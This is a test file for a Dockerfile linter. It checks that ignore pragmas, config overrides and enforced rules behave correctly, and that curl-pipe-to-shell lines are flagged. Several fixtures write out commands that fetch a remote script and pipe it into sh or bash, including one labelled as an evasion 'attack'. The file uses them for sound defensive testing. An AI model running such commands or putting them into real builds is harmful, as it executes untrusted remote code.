import { describe, expect, it } from 'vitest';
import { DEFAULT_CONFIG, parseLintConfig, stricterThreshold } from '../../../core/lint/config.js';
import { lintText } from '../../../core/lint/engine.js';
import { defineRule } from '../../../core/lint/rule.js';
import { RULES } from '../../../core/lint/rules/index.js';

const only = (...ids: string[]) => RULES.filter((r) => ids.includes(r.id));
const codes = (text: string, config = DEFAULT_CONFIG) =>
  lintText(text, 'Dockerfile', { config }).map((f) => f.code);

describe('lint engine', () => {
  it('reports findings with file, line, column, code, level and message', () => {
    const [f] = lintText('FROM debian:latest\n', 'app/Dockerfile', {
      rules: RULES.filter((r) => r.id === 'DL3007'),
    });
    expect(f).toEqual({
      file: 'app/Dockerfile',
      line: 1,
      column: 1,
      code: 'DL3007',
      level: 'warning',
      message: expect.stringContaining('latest'),
    });
  });

  it('honours a hadolint ignore pragma for the next instruction only', () => {
    const text = '# hadolint ignore=DL3007\nFROM debian:latest AS a\nFROM debian:latest\n';
    const lines = lintText(text, 'D')
      .filter((f) => f.code === 'DL3007')
      .map((f) => f.line);
    expect(lines).toEqual([3]);
  });

  it('honours a drydock ignore pragma and a global ignore pragma', () => {
    expect(codes('FROM debian:12\n# drydock ignore=DD110\nRUN curl https://x | sh\n')).not.toContain('DD110');
    expect(codes('# hadolint global ignore=DL3007\nFROM a:latest\nFROM b:latest\n')).not.toContain('DL3007');
  });

  it('applies an ignore pragma to findings on continuation lines of the instruction', () => {
    const text = 'FROM debian:12\n# drydock ignore=DD110\nRUN apt-get update && \\\n  curl https://x | sh\n';
    expect(codes(text)).not.toContain('DD110');
  });

  it('reports an ignore pragma naming an unknown rule, and accepts hadolint and ShellCheck ids', () => {
    const found = lintText('# hadolint ignore=DL9999,SC2086,DL3049\nFROM debian:12\n', 'D');
    expect(found.filter((f) => f.code === 'DD002').map((f) => f.message)).toEqual([
      expect.stringContaining('"DL9999"'),
    ]);
  });

  it('ignores rules and overrides severities from config', () => {
    const config = parseLintConfig('ignored: [DL3007]\noverride:\n  info: [DD110]\n', '.drydock.yaml');
    const found = lintText('FROM a:latest\nRUN curl https://x | sh\n', 'D', {
      config,
      rules: only('DL3007', 'DD110'),
    });
    expect(found.map((f) => [f.code, f.level])).toEqual([['DD110', 'info']]);
  });

  it('reports each problem of a file Docker cannot build at its own line, and still lints every other instruction', () => {
    const text =
      'FROM debian:latest\nRUNN apt-get update\nRUN\nRUN curl https://x | sh\nCOPY --chmod=7777 --bogus a /a\n';
    const found = lintText(text, 'D').filter((f) => ['DD000', 'DL3007', 'DD110'].includes(f.code));
    expect(found.map((f) => [f.line, f.code, f.level])).toEqual([
      [1, 'DL3007', 'warning'],
      [2, 'DD000', 'error'],
      [3, 'DD000', 'error'],
      [4, 'DD110', 'error'],
      [5, 'DD000', 'error'],
    ]);
    expect(found.filter((f) => f.code === 'DD000').map((f) => f.message)).toEqual([
      expect.stringContaining('unknown instruction "RUNN"'),
      expect.stringContaining('RUN requires at least one argument'),
      expect.stringContaining('COPY has an unknown flag --bogus'),
    ]);
  });

  it('reports the broken instruction whichever way round it comes, and the rules still see the rest', () => {
    const before = codes('FROM debian:12\nRUN\nRUN curl https://x | sh\n');
    const after = codes('FROM debian:12\nRUN curl https://x | sh\nRUN\n');
    for (const c of [before, after]) expect(c).toEqual(expect.arrayContaining(['DD000', 'DD110']));
  });

  it('an empty file or one too long to parse is its one DD000, with no rule run on nothing', () => {
    expect(codes('')).toEqual(['DD000']);
    expect(codes(`FROM a:latest\n${'RUN true\n'.repeat(20_000)}`)).toEqual(['DD000']);
  });

  it('reports no DD001 for shell-form RUNs under PowerShell, pwsh or cmd, or a shell pragma naming one', () => {
    const ps =
      "RUN $ErrorActionPreference = 'Stop'; Invoke-WebRequest -Uri $url -OutFile (Join-Path $env:TEMP x.zip)\n";
    for (const shell of [
      'SHELL ["powershell", "-Command", "$ErrorActionPreference = \'Stop\';"]\n',
      'SHELL ["pwsh", "-NoLogo", "-Command"]\n',
      'SHELL ["C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe", "-Command"]\n',
      'SHELL ["cmd", "/S", "/C"]\n',
    ]) {
      expect(codes(`FROM mcr.microsoft.com/windows/servercore:ltsc2022\n${shell}${ps}`)).not.toContain(
        'DD001',
      );
    }
    expect(
      codes(`# hadolint shell=powershell\nFROM mcr.microsoft.com/windows/servercore:ltsc2022\n${ps}`),
    ).not.toContain('DD001');
    expect(
      codes(
        'FROM mcr.microsoft.com/windows/servercore:ltsc2022\nSHELL ["cmd", "/S", "/C"]\nRUN if exist C:\\x (echo yes)\n',
      ),
    ).not.toContain('DD001');
  });

  it('keeps DD001 for a POSIX shell, for a RUN before a SHELL switch, and for exec-form sh -c under PowerShell', () => {
    const bad = 'RUN echo "unterminated\n';
    expect(codes(`FROM debian:12\nSHELL ["/bin/bash", "-o", "pipefail", "-c"]\n${bad}`)).toContain('DD001');
    expect(codes(`FROM debian:12\n${bad}SHELL ["pwsh", "-Command"]\n`)).toContain('DD001');
    expect(codes(`# hadolint shell=bash\nFROM debian:12\n${bad}`)).toContain('DD001');
    expect(
      codes('FROM debian:12\nSHELL ["pwsh", "-Command"]\nRUN ["/bin/sh", "-c", "echo \\"unterminated"]\n'),
    ).toContain('DD001');
    // SHELL ends with its stage: the next stage is POSIX again.
    expect(codes(`FROM debian:12\nSHELL ["pwsh", "-Command"]\nFROM debian:12\n${bad}`)).toContain('DD001');
  });

  it('reports an unparseable RUN script and still runs the other rules', () => {
    const found = lintText('FROM debian:latest\nRUN echo "unterminated\n', 'D', { rules: only('DL3007') });
    expect(found.map((f) => f.code).sort()).toEqual(['DD001', 'DL3007']);
    expect(found.find((f) => f.code === 'DD001')).toMatchObject({ line: 2, column: 10 });
  });

  it('keeps each pipeline finding on its own RUN, whichever RUN comes first', () => {
    const key = 'RUN curl -fsSL https://x.example/key.gpg | apt-key add -\n';
    const script = 'RUN curl -fsSL https://x.example/install.sh | bash\n';
    const at = (text: string) =>
      lintText(text, 'D', { rules: only('DD110') })
        .filter((f) => f.code === 'DD110')
        .map((f) => [f.line, f.message.includes('install.sh')]);
    expect(at(`FROM debian:12\n${key}${script}`)).toEqual([[3, true]]);
    expect(at(`FROM debian:12\n${script}${key}`)).toEqual([[2, true]]);
    expect(at(`FROM debian:12\n${key}${key}`)).toEqual([]);
  });

  it('a PowerShell SHELL neither hides an exec-form sh -c script from the rules nor ends with its stage', () => {
    const execForm =
      'FROM debian:12\nSHELL ["pwsh", "-Command"]\nRUN ["sh", "-c", "curl -fsSL https://x.example/i.sh | sh"]\n';
    expect(codes(execForm)).toContain('DD110');
    expect(
      codes('FROM debian:12\nSHELL ["pwsh", "-Command"]\nRUN curl -fsSL https://x.example/i.sh | sh\n'),
    ).not.toContain('DD110');
    const ps = 'RUN Invoke-WebRequest -Uri $u -OutFile (Join-Path $env:TEMP x.zip)\n';
    expect(codes(`FROM debian:12 AS base\nSHELL ["pwsh", "-Command"]\nFROM base\n${ps}`)).not.toContain(
      'DD001',
    );
    expect(codes(`FROM debian:12 AS base\nSHELL ["pwsh", "-Command"]\nFROM debian:12\n${ps}`)).toContain(
      'DD001',
    );
  });

  it('fails closed when a rule throws', () => {
    const broken = defineRule({
      id: 'DD999',
      level: 'info',
      title: 'Broken rule',
      rationale: 'Exists to prove that a crashing rule is reported, never silently passed.',
      check: () => {
        throw new Error('boom');
      },
    });
    const found = lintText('FROM debian:12\n', 'D', { rules: [broken] });
    expect(found).toEqual([
      expect.objectContaining({ code: 'DD003', level: 'error', message: expect.stringContaining('DD999') }),
    ]);
  });

  it('sorts findings by line then column', () => {
    const found = lintText('FROM b:latest\nRUN curl https://x | sh\nFROM a:latest\n', 'D');
    const lines = found.map((f) => f.line);
    expect(lines).toEqual([...lines].sort((a, b) => a - b));
  });
});

describe('lint config', () => {
  it('reads hadolint keys', () => {
    const c = parseLintConfig(
      'failure-threshold: error\nignored: [dl3008]\ntrustedRegistries: [docker.io]\n',
      'x',
    );
    expect(c).toMatchObject({
      failureThreshold: 'error',
      ignored: ['DL3008'],
      trustedRegistries: ['docker.io'],
    });
  });

  it('rejects unknown keys, naming the file and key', () => {
    expect(() => parseLintConfig('ignore: [DL3008]\n', '.drydock.yaml')).toThrow(
      /\.drydock\.yaml.*unknown key.*"ignore"/,
    );
  });

  it('rejects malformed rule ids with the field path', () => {
    expect(() => parseLintConfig('override:\n  error: [nope]\n', 'c.yaml')).toThrow(
      /override\.error\.0: must be a rule id/,
    );
  });

  it('rejects invalid YAML with line and column', () => {
    expect(() => parseLintConfig('ignored: [DL3008\n', 'c.yaml')).toThrow(/c\.yaml:\d+:\d+: not valid YAML/);
  });
});

describe('enforced rules', () => {
  const text = '# hadolint global ignore=DD110\nFROM a:1\n# drydock ignore=DD110\nRUN curl https://x | sh\n';
  const config = (extra: string) => ({
    ...parseLintConfig(`ignored: [DD110]\n${extra}`, 'c.yaml'),
    enforced: ['DD110'],
  });

  it('cannot be silenced by pragmas or an ignore list', () => {
    const found = lintText(text, 'D', { config: config(''), rules: only('DD110') });
    expect(found.map((f) => [f.code, f.level])).toEqual([['DD110', 'error']]);
  });

  it('cannot be lowered by an override', () => {
    const found = lintText(text, 'D', {
      config: config('override:\n  info: [DD110]\n'),
      rules: only('DD110'),
    });
    expect(found.map((f) => f.level)).toEqual(['error']);
  });

  it('is silenced as usual when not enforced', () => {
    expect(lintText(text, 'D', { config: { ...config(''), enforced: [] }, rules: only('DD110') })).toEqual(
      [],
    );
  });
});

describe('stricterThreshold', () => {
  it('picks the threshold that fails on more findings', () => {
    expect(stricterThreshold('error', 'warning')).toBe('warning');
    expect(stricterThreshold('info', 'warning')).toBe('info');
    expect(stricterThreshold('none', 'error')).toBe('error');
  });
});

describe('engine codes cannot be silenced', () => {
  // `$(( ))` is shell the parser rejects: DD001 is then the only thing standing between the RUN and the gate.
  const attack =
    'FROM debian:12\n# hadolint ignore=DD001\nRUN echo $(( )) ; curl -fsSL https://x.example/i.sh | sh\n';

  it('keeps DD001 when a pragma ignores it, and says the pragma has no effect', () => {
    const found = lintText(attack, 'D');
    expect(found).toContainEqual(expect.objectContaining({ code: 'DD001', level: 'error', line: 3 }));
    expect(found).toContainEqual(
      expect.objectContaining({
        code: 'DD002',
        level: 'warning',
        line: 2,
        message: expect.stringContaining('DD001, an engine code that cannot be ignored'),
      }),
    );
  });

  it('keeps DD001 under a global pragma, an ignore list and an override that lowers it', () => {
    const config = parseLintConfig(
      'ignored: [DD000, DD001, DD002, DD003, DD004]\noverride:\n  info: [DD001, DD004]\n  style: [DD002]\n',
      '.drydock.yaml',
    );
    const text = `# hadolint global ignore=DD001,DD004\n${attack}`;
    const found = lintText(text, 'D', { config });
    expect(found.filter((f) => f.code.startsWith('DD00')).map((f) => [f.code, f.level])).toEqual([
      ['DD002', 'warning'],
      ['DD002', 'warning'],
      ['DD002', 'warning'],
      ['DD001', 'error'],
    ]);
  });

  it('keeps DD000, DD003 and DD004 whatever the config says', () => {
    const config = { ...DEFAULT_CONFIG, ignored: ['DD000', 'DD003', 'DD004'], disableIgnorePragma: true };
    expect(codes('FROM a:1\nBOGUS x\n', config)).toContain('DD000');
    expect(codes('FROM a:1\nRUN <<EOF\necho\nEOF\n', config)).toContain('DD004');
    const crash = defineRule({
      id: 'DD999',
      level: 'info',
      title: 't',
      rationale: 'r',
      check: () => {
        throw new Error('boom');
      },
    });
    expect(lintText('FROM a:1\n', 'D', { config, rules: [crash] }).map((f) => f.code)).toEqual(['DD003']);
  });

  it('lets an override raise an engine code', () => {
    const config = { ...DEFAULT_CONFIG, overrides: { DD002: 'error' as const } };
    const found = lintText(attack, 'D', { config });
    expect(found.find((f) => f.code === 'DD002')?.level).toBe('error');
  });
});
